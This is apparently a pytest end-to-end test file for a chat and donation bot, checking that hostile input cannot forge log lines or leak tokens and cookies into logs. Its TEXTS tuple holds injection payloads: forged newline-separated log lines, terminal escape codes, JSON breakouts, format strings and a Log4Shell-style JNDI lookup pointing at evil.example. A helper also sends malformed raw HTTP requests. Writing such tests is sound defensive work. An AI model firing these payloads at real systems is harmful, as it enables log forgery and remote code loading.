"""What hostile texts and broken requests leave in the logs: one record an event, no word of theirs."""

import asyncio
import io
import json
import logging
import re
from collections.abc import Iterator

import pytest
from aiohttp import ClientSession

from bots import settings
from bots.compose import App
from bots.logs import FORMS, Records
from bots.secret_file import kept_secret
from core.channels.keys import ChannelKeys
from core.events import Viewer
from core.labels import Platform
from tests.conftest import until
from tests.e2e.conftest import overlay_socket, visiting
from tests.outsider import outsider

# In every text that somebody else chooses.
WORD = "planted7word"
FORGED_LINE = "2026-01-01T00:00:00.000+00:00 ERROR    core.delivery.mouth: all tokens lost"
TEXTS = (
    f"{WORD}\n{FORGED_LINE}", f"{WORD}\r\n{FORGED_LINE}", f"{WORD}\x0b{FORGED_LINE}", f"{WORD}\x85{FORGED_LINE}",
    f"{WORD}\u2028{FORGED_LINE}", f"\x1b[2J\x1b[31m{WORD}", f"\x9b31m{WORD}", f"\x1b]0;{WORD}\x07", f"\x08\x08{WORD}",
    f'{{"level":"error","event":"{WORD}"}}', f'"}}\n{{"event":"{WORD}"}}', f"%s %d %(name)s {WORD}", f"\u202e{WORD}",
    f"{WORD}\x00", f"{WORD} level=error event=x", f"{{0.__class__}} {WORD}", f"${{jndi:ldap://evil.example/{WORD}}}",
)  # fmt: skip


class Written:
    """Every record, formatted as it is for people and as JSON."""

    def __init__(self) -> None:
        self.count = 0
        self.out = {form: io.StringIO() for form in FORMS}
        self.handlers: list[logging.Handler] = []
        for form, make in FORMS.items():
            handler = logging.StreamHandler(self.out[form])
            handler.setFormatter(make(Records(b"k" * 16)))
            self.handlers.append(handler)
        self.handlers[0].addFilter(self._counted)

    def _counted(self, _: logging.LogRecord) -> bool:
        self.count += 1
        return True

    def lines(self, form: str) -> list[str]:
        return self.out[form].getvalue().split("\n")[:-1]  # type: ignore[index]


@pytest.fixture
def written() -> Iterator[Written]:
    written, root = Written(), logging.getLogger()
    level = root.level
    root.setLevel(logging.INFO)
    for handler in written.handlers:
        root.addHandler(handler)
    yield written
    for handler in written.handlers:
        root.removeHandler(handler)
    root.setLevel(level)


def check(written: Written, *never: str) -> None:
    """One line a record, each of its form, and none of `never` in any."""
    text, objects = written.lines("text"), written.lines("json")
    assert len(text) == len(objects) == written.count > 0
    for line in text:
        assert re.match(r"\d{4}-\d\d-\d\dT[\d:.+]+ [a-z]+ +[\w.]+: ", line), line
        assert line.isprintable()
    for line in objects:
        assert {"time", "level", "where", "event"} <= {*json.loads(line)}
        assert line.isprintable()
    for line in (*text, *objects):
        assert not [word for word in (WORD, *never) if word in line], line


async def broken(app: App, token: str) -> None:
    """Requests that are none, with a secret in them."""
    host, port = app.url.partition("//")[2].split(":")
    for request in (
        f"GET /{token} HTTP/9.9\r\n\r\n", f"{token}\r\n\r\n", f"GET / HTTP/1.1\r\nHost: localhost\r\n{token}\r\n\r\n",
        f"POST /hooks/donation HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer {token}\x00\r\n\r\n",
        f"GET /?{token}=\x1b[31m{WORD} HTTP/1.1\r\nHost: localhost\r\nA: {WORD}\n\nB: {FORGED_LINE}\r\n\r\n",
        f"POST /try/films HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n{WORD}\r\n",
    ):  # fmt: skip
        reader, writer = await asyncio.open_connection(host, int(port))
        writer.write(request.encode())
        await writer.drain()
        await reader.read(64)
        writer.close()
        await writer.wait_closed()


async def donate(app: App, session: ClientSession, token: str, text: str, key: str) -> None:
    headers = {"Authorization": f"Bearer {token}", "Idempotency-Key": key}
    body = {"donor": text, "message": text, "amount": 1_000}
    async with session.post(f"{app.url}/hooks/donation", json=body, headers=headers) as answer:
        assert answer.status in (200, 503)


async def test_nobody_writes_into_the_logs(app: App, written: Written) -> None:
    folder = settings.data_folder(settings.load())
    keys = ChannelKeys(kept_secret(folder / "hook.key"), lambda *_: 0)
    token = keys.token(Platform.ROOM, "room")
    overlay = app.overlay_url.partition("#")[2]
    async with ClientSession() as session:
        page = await overlay_socket(session, app)
        async with session.ws_connect(f"{app.url}/overlay/ws") as stranger:
            await stranger.send_json({"type": "auth", "token": f"{overlay}x{WORD}"})
            await stranger.receive()
        for number, text in enumerate(TEXTS):
            app.room.enter(Viewer(f"room:{WORD}{number}", text), f"온유야 {text}")
            await donate(app, session, token, text, f"k{number}")
            async with session.get(f"{app.url}/overlay/audio/{WORD}") as answer:
                assert answer.status == 404
        await broken(app, token)
        await wrecked(app, session, token)
        async with visiting(app, "손님") as visitor:
            await visitor.say("온유야 안녕")
            await visitor.until("reply", within=20.0)
            cookies = [cookie.value for cookie in session.cookie_jar]
        await page.close()
    logging.getLogger("core.delivery.mouth").warning(
        "not said", extra={"why": TEXTS[0].replace(WORD, "x")}
    )
    check(written, overlay, token, token.rpartition(".")[2], "planted", *filter(None, cookies))


async def wrecked(app: App, session: ClientSession, token: str) -> None:
    """The database fails in the middle: what it was asked to keep is in no traceback."""
    path = settings.data_folder(settings.load()) / "lovelm.db"
    async with outsider(path) as other:
        await other("ALTER TABLE chat RENAME TO gone")
        await other("ALTER TABLE donation RENAME TO gone2")
        for number, text in enumerate(TEXTS[:3]):
            app.room.enter(Viewer(f"room:{WORD}", text), text)
            await donate(app, session, token, text, f"w{number}")
        await other("ALTER TABLE gone RENAME TO chat")
        await other("ALTER TABLE gone2 RENAME TO donation")


async def test_a_frame_that_breaks_its_reader_is_one_record(app: App, written: Written) -> None:
    def failing(*_: object) -> None:
        raise RuntimeError(f"{WORD}\n{FORGED_LINE}")

    app.room.enter = failing  # type: ignore[method-assign]
    async with visiting(app) as visitor:
        await visitor.say(TEXTS[0])
        await until(lambda: "message of a browser failed" in written.out["text"].getvalue())
        assert not visitor.socket.closed
    check(written)
